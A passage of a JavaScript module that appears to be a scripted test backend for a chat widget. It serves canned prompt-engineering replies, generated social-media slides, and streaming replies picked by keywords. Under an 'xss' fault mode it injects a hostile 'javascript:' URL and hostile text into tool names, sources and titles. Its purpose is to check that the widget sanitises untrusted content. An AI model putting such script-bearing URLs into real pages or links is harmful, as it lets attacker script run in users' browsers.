Read more in the [OpenAI prompt engineering guide](https://platform.openai.com/docs/guides/prompt-engineering).`,
    opportunity: {
      title: 'Customer Support Reply',
      description: 'Role, context and rules for consistent support answers.',
      category: 'customer_service',
      confidence: 0.87,
      reasoning: 'The prompt has clear placeholders and rules, a good fit for a reusable template.',
    },
    templateSuggestions: [
      {id: 'tpl-support-001', title: 'Support Reply with Escalation', category: 'customer_service', description: 'Answers tickets and escalates when unsure.'},
      {id: 'tpl-support-002', title: 'Refund Policy Explainer', category: 'customer_service', description: 'Explains the refund policy in plain language.'},
    ],
  },
  {
    pattern: /\b(reason\w*|chain|step[- ]by[- ]step|think\w*|math)\b/i,
    text: `## Getting better reasoning

For multi-step problems, ask the model to **work through the problem before answering**:

1. State the task clearly.
2. Ask for the reasoning *first*, then the final answer on its own line.
3. Make the answer easy to parse:

\`\`\`text
Solve the problem. Think it through step by step,
then give the final answer on the last line as:
ANSWER: <number>
\`\`\`

### When it helps (and when it doesn't)
| Task | Step-by-step helps? |
| --- | --- |
| Arithmetic and logic puzzles | **Yes** |
| Multi-hop questions | Yes |
| Simple lookups or rewriting | No, it just adds tokens |

> Reasoning models already do this internally; for them, a *clear goal* matters more than "think step by step".`,
    opportunity: {
      title: 'Step-by-Step Problem Solver',
      description: 'Structured reasoning with a machine-readable final answer.',
      category: 'reasoning',
      confidence: 0.78,
      reasoning: 'A fixed output format makes this prompt easy to reuse and evaluate.',
    },
  },
  {
    pattern: /.*/,
    text: `## Anatomy of a good prompt

Strong prompts usually have **four parts**:

1. **Role**: who the model should be (*"You are an experienced copywriter…"*).
2. **Task**: exactly what to do, with a verb up front.
3. **Context**: the facts it needs, clearly delimited.
   - Paste source text between \`"""\` or XML-style tags.
   - Say what to do when the context doesn't contain the answer.
4. **Output format**: length, structure, tone.

\`\`\`text
Role:    You are a senior product marketer.
Task:    Write three headline options for the launch below.
Context: """{{launch_notes}}"""
Format:  A numbered list, each under 10 words, no emoji.
\`\`\`

| Weak prompt | Better prompt |
| --- | --- |
| "Write about our app" | "Write a 50-word App Store description for a budgeting app aimed at students" |
| "Make it better" | "Make it more concise: cut it to 3 sentences and keep the call to action" |

Want me to **optimize** a prompt you're working on? Paste it in and I'll suggest improvements.`,
    opportunity: {
      title: 'Structured Prompt Blueprint',
      description: 'Role, task, context and format in one reusable prompt.',
      category: 'general',
      confidence: 0.82,
      reasoning: 'The conversation defines a repeatable prompt structure with placeholders.',
    },
  },
];

/**
 * An "optimized" version of a prompt and the list of improvements made.
 * @param {string} prompt
 * @returns {{optimized: string, improvements: string[]}}
 */
export function optimizePrompt(prompt) {
  const task = prompt.trim().replace(/\s+/g, ' ').replace(/[.!?]*$/, '');
  return {
    optimized: [
      'You are an expert assistant with deep knowledge of the subject.',
      '',
      `Task: ${task.charAt(0).toUpperCase()}${task.slice(1)}.`,
      '',
      'Context: """{{context}}"""',
      '',
      'Requirements:',
      '- Be specific and accurate; say so if information is missing.',
      '- Keep the answer under 200 words.',
      '',
      'Output format: a short introduction followed by a bulleted list.',
    ].join('\n'),
    improvements: [
      'Added a clear role for the model',
      'Stated the task explicitly',
      'Added a delimited context placeholder',
      'Specified length and output format',
    ],
  };
}

// ---------------------------------------------------------------------------
// job (seed 000): social-media content slides

/**
 * The generated post for a job.
 * @param {{topic: string, query: string, platform: string}} job
 * @returns {{responseText: string, strategy: object, compliance: object}}
 */
export function socialContent({topic, query, platform}) {
  const subject = topic.trim() || 'your topic';
  const ask = query.trim();
  const words = subject.split(/[^\p{L}\p{N}]+/u).filter(Boolean);
  const camel = words.map((w) => w.charAt(0).toUpperCase() + w.slice(1).toLowerCase()).join('');
  const slidesFor = {
    Instagram: 'carousel',
    Facebook: 'carousel',
    Twitter: 'thread',
    TikTok: 'video script',
  };
  const format = slidesFor[platform] ?? 'carousel';

  const caption = platform === 'Twitter' ? '≤ 280 characters per post' : '125–150 characters before "more"';
  const bodies = {
    carousel: `# Slide 1: ${subject}, the facts 💡

**Thinking about ${subject}?** You're not alone, and you deserve clear, honest answers.

*Brief: "${ask}"*

# Slide 2: What it actually is

- A **well-established** option when done by a qualified professional
- Results depend on *your* goals, history and expectations
  - Always start with a proper consultation
  - Ask about the practitioner's training and experience

# Slide 3: Myth vs fact

| Myth | Fact |
| --- | --- |
| "Everyone can tell" | Subtle results are the norm with an experienced provider |
| "It's risky for everyone" | Risks are low when screening and aftercare are done properly |
| "One size fits all" | A good plan is personalised |

# Slide 4: Questions to ask at your consultation

1. Am I a good candidate?
2. What are the possible side effects, and how common are they?
3. What does aftercare look like?

# Slide 5: Your next step ✅

Book a consultation and get advice that's right **for you**. Tap the link in our bio: [book a consultation](https://clinic.example/book).

\`\`\`text
Suggested caption length: ${caption}
\`\`\``,
    thread: `# Slide 1: 🧵 ${subject}: what nobody tells you

*Brief: "${ask}"*

A quick thread with the **facts**, not the hype. 1/5 👇

# Slide 2: Who it's for

- People who have done their research and have *realistic* expectations
- Not a fit if you're pregnant, unwell, or being pressured into it
  - A good provider will say **no** when it isn't right for you

# Slide 3: The numbers that matter

| Question | What to look for |
| --- | --- |
| Provider qualifications | Registered, with specific training |
| Consultation | Free or low cost, no pressure |
| Aftercare | A clear plan and a follow-up visit |

# Slide 4: Red flags 🚩

1. "Limited time only" discounts
2. No medical history questions
3. Prices that seem too good to be true

# Slide 5: Learn more

Save this thread and read our full guide: [${subject} explained](https://clinic.example/guides). 5/5

\`\`\`text
Suggested caption length: ${caption}
\`\`\``,
    'video script': `# Slide 1: Hook (0–3 s) 🎬

**On screen:** "${subject}: 3 things I wish I knew"

*Brief: "${ask}"*

# Slide 2: Thing 1 (3–10 s)

- **Say:** "A good consultation takes time. If it's rushed, walk away."
- **Show:** the consultation room, calm lighting
  - Caption: *Ask questions. Lots of them.*

# Slide 3: Thing 2 (10–18 s)

| Shot | Voice-over |
| --- | --- |
| Close-up of the practitioner | "Check they are qualified and registered." |
| Text overlay | "Your safety is not a bargain bin." |

# Slide 4: Thing 3 (18–25 s)

1. Results take time to settle
2. Follow the aftercare advice
3. Book your review appointment

# Slide 5: Call to action (25–30 s) ✅

**Say:** "Follow for more honest answers, and book a consultation via the link in bio." [clinic.example/book](https://clinic.example/book)

\`\`\`text
Suggested caption length: ${caption}
\`\`\``,
  };
  const responseText = bodies[format];

  const hashtags = [
    `#${camel || 'Wellness'}`,
    '#SafetyFirst',
    '#AskAnExpert',
    platform === 'TikTok' ? '#LearnOnTikTok' : platform === 'Instagram' ? '#InstaEducation' : '#HealthTips',
  ];
  const postingTimes = {
    Instagram: 'Tuesday or Thursday, 11:00–13:00',
    Facebook: 'Wednesday, 09:00–11:00',
    Twitter: 'Weekdays, 08:00–10:00',
    TikTok: 'Friday, 18:00–21:00',
  };

  return {
    responseText,
    strategy: {
      platform,
      content_format: format,
      tone: /reassur|calm|gentle|friendly/i.test(ask) ? 'Reassuring and warm' : 'Informative and approachable',
      target_audience: 'Adults 25–45 researching the topic for the first time',
      hashtags,
      posting_time: postingTimes[platform] ?? 'Weekdays, 09:00–11:00',
      call_to_action: 'Book a consultation via the link in bio',
      slide_count: 5,
    },
    compliance: {
      status: 'passed',
      checks: [
        {name: 'No guaranteed outcomes', passed: true},
        {name: 'No before/after claims without disclaimer', passed: true},
        {name: 'Risks mentioned in a balanced way', passed: true},
        {name: `${platform} advertising policy`, passed: true},
      ],
      notes: 'Content is educational and avoids promising results. Keep the consultation call to action.',
    },
  };
}

// ---------------------------------------------------------------------------
// openai, ai-sdk, ag-ui (HTTP + SSE): one scripted reply, picked by keywords

/** A hostile `javascript:` URL for sources under `fault=xss`. */
export const HOSTILE_URL = 'javascript:window.__xss=1';

/** Words that pick a behaviour: a word of the last user message must start with one. */
const TRIGGERS = {
  think: /\bthink/i,
  tool: /\b(?:tool|weather)/i,
  sources: /\b(?:source|cite)/i,
  data: /\bdata/i,
  length: /\blength/i,
  long: /\blong/i,
  chunk: /\bchunk/i,
  step: /\bstep/i,
  abort: /\babort/i,
};

function longText() {
  const out = ['# A long reply', '', 'This reply is long on purpose, so that **Stop** has something to stop.', ''];
  for (let i = 1; i <= 30; i++) {
    out.push(
      `**Part ${i}.** Streaming replies arrive a few characters at a time, and a long one keeps going ` +
        `for a while: the widget keeps the view at the bottom, the reply grows, and the person may stop it ` +
        `at any moment. Part ${i} of 30 ends here.`,
      '',
    );
  }
  return out.join('\n');
}

/**
 * The reply the HTTP + SSE backends stream for one request: which extras it
 * has (from words in the last user message) and every string it sends
 * (hostile ones under `fault=xss`).
 * @param {object} input
 * @param {string} input.protocol  shown in the reply (`openai`, `ai-sdk`, `ag-ui`)
 * @param {string} input.userText  the last user message's text
 * @param {number} input.messageCount  how many messages the request carried
 * @param {boolean} [input.xss]
 */
export function standardReply({protocol, userText, messageCount, xss = false}) {
  const has = Object.fromEntries(Object.entries(TRIGGERS).map(([name, re]) => [name, re.test(userText)]));
  const hostile = (text) => (xss ? HOSTILE_TEXT : text);
  const city = hostile('Paris');
  const echo = `You said: “${userText}”. (${messageCount} message${messageCount === 1 ? '' : 's'} in this request.)`;

  const lead = [];
  if (has.tool) lead.push(`The weather in ${city} is **18 °C** and sunny, says the \`get_weather\` tool.`);
  // Sources are an ai-sdk feature, data parts and agent state ai-sdk and ag-ui ones.
  if (has.sources && protocol === 'ai-sdk') lead.push('According to the sources listed under this reply, streaming over SSE is widely supported.');
  if (has.data && protocol !== 'openai') lead.push('The weather data came as its own part of the stream.');
  const body = [
    `Thanks for your message. This reply comes from the **${protocol}** reference backend and streams token by token.`,
    '',
    'What it can show:',
    '',
    '- **Reasoning** when your message mentions *think*',
    '- A **tool call** for *tool* or *weather*',
    ...(protocol === 'ai-sdk' ? ['- **Sources** for *source* or *cite*, and a **data part** for *data*'] : []),
    ...(protocol === 'ag-ui' ? ['- **Steps** for *step*, and **agent state** for *data*'] : []),
    '- A *long* reply, so that Stop has something to stop',
    '',
    'Ask again any time.',
  ].join('\n');

  let text;
  if (xss) text = `${HOSTILE_MARKDOWN}\n\n${echo}`;
  else if (has.long) text = `${longText()}\n${echo}`;
  else text = [...lead, ...(lead.length ? [''] : []), echo, '', body].join('\n');

  const args = {city};
  return {
    has,
    text,
    reasoning: has.think
      ? xss
        ? `${HOSTILE_TEXT} [click](${HOSTILE_URL})`
        : `The user wrote “${userText}”. Let me think it through step by step: read the question, ` +
          'pick what matters, then answer briefly with a short list.'
      : null,
    tool: has.tool
      ? {
          id: `call_${Math.random().toString(36).slice(2, 12)}`,
          name: xss ? `get_weather${HOSTILE_TEXT}` : 'get_weather',
          args,
          argsText: JSON.stringify(args),
          result: {city, temperature: 18, unit: 'C', conditions: hostile('sunny')},
        }
      : null,
    sources: has.sources
      ? [
          {
            sourceId: 'src-1',
            url: xss ? HOSTILE_URL : 'https://developer.mozilla.org/en-US/docs/Web/API/Server-sent_events',
            title: hostile('Server-sent events (MDN)'),
          },
          {
            sourceId: 'src-2',
            url: xss ? HOSTILE_URL : 'https://html.spec.whatwg.org/multipage/server-sent-events.html',
            title: hostile('HTML Standard: Server-sent events'),
          },
        ]
      : [],
    document: has.sources
      ? {
          sourceId: 'doc-1',
          mediaType: 'application/pdf',
          title: hostile('Streaming handbook'),
          filename: hostile('streaming-handbook.pdf'),
        }
      : null,
    weather: has.data ? {city, temperature: xss ? HOSTILE_TEXT : 18} : null,
    state: has.data
      ? {
          snapshot: {city, temperature: xss ? HOSTILE_TEXT : 18, history: []},
          delta: [
            {op: 'replace', path: '/temperature', value: xss ? HOSTILE_TEXT : 19},
            {op: 'add', path: '/history/-', value: hostile('checked the weather')},
          ],
          custom: {name: 'weather-card', value: {city, note: hostile('a custom event')}},
          raw: {source: 'demo-llm', event: {kind: 'raw-provider-event', text: hostile('raw provider output')}},
        }
      : null,
    stepNames: has.step ? [hostile('research'), hostile('answer')] : [],
    metadata: {model: 'demo-model', note: hostile('message metadata')},
    errorMessage: hostile('The model overloaded'),
  };
}
